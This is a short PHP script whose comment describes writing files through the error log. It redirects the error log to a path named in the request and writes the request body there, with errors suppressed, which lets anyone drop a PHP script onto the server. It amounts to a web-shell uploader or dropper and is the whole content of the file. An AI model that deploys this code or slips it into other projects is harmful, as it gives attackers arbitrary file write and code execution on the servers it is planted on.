<?php
// Writes a file through PHP's error log: the log is pointed at a path the request names and the
// "message" is the file's content (a script, when the path ends in .php).
@ini_set('log_errors', '1');
@ini_set('error_log', $_POST['to']);
error_log($_POST['body']);
echo 'logged';
